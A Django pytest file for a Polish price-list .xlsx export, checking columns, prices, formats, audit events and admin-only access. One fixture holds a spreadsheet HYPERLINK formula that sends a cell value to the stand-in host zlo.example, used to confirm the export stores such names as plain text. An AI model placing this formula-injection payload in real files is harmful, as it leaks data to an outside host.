"""The export of a payer's price list to .xlsx (PAY-5, manual §11.2.1), read back as Excel and LibreOffice read it."""

from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import XLSX_CONTENT_TYPE
from core.models import AuditCategory, AuditEvent
from payers.tests.factories import PayerFactory, PayerServiceFactory, ServiceFactory, ServiceGroupFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://zlo.example/?q="&B2,"Kliknij")'


def test_every_general_service_with_ids_of_overridden_ones_and_only_their_prices(client_for, alice):
    consultations = ServiceGroupFactory(name="Konsultacje specjalistyczne", position=10)
    laboratory = ServiceGroupFactory(name="Badania laboratoryjne", position=20)
    cardiology = ServiceFactory(group=consultations, name="Konsultacja kardiologiczna", price=Decimal("1250.50"))
    dermatology = ServiceFactory(group=consultations, name="Konsultacja dermatologiczna", price=Decimal("230.00"))
    formula = ServiceFactory(group=laboratory, name=FORMULA, price=Decimal("25.00"), active=False)
    payer = PayerFactory(name="Wisła")
    copy = PayerServiceFactory(payer=payer, service=cardiology)
    inactive_copy = PayerServiceFactory(payer=payer, service=formula)
    PayerServiceFactory(service=dermatology)  # another payer's copy: not in this list

    response = client_for(alice).get(reverse("payers:payer_export", args=[payer.pk]))

    assert response.status_code == 200 and response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith(f'attachment; filename="cennik-platnika-{payer.pk}-')
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows == [
        (
            "Grupa cennika",
            "Id usługi w cenniku ogólnym",
            "Nazwa usługi",
            "Id usługi nadpisanej",
            "Cena brutto [zł]",
            "Aktywna",
        ),
        ("Konsultacje specjalistyczne", dermatology.pk, "Konsultacja dermatologiczna", None, None, None),
        ("Konsultacje specjalistyczne", cardiology.pk, "Konsultacja kardiologiczna", copy.pk, 1250.5, "Tak"),
        ("Badania laboratoryjne", formula.pk, FORMULA, inactive_copy.pk, 25, "Nie"),
    ]
    assert sheet["C4"].data_type == "s"  # the name that looks like a formula stays text
    assert sheet["E3"].number_format == "#,##0.00"
    event = AuditEvent.objects.get(action="payer_pricelist_exported")
    assert event.category == AuditCategory.EXPORT and event.actor == alice
    assert event.message == (
        "Wyeksportowano cennik płatnika „Wisła” do pliku .xlsx: usług cennika ogólnego 3, w tym nadpisanych 2."
    )


def test_only_administrators_export(client_for, bob, carol, dave):
    payer = PayerFactory()
    for user in (bob, carol, dave):
        assert client_for(user).get(reverse("payers:payer_export", args=[payer.pk])).status_code == 403
    assert not AuditEvent.objects.filter(action="payer_pricelist_exported").exists()
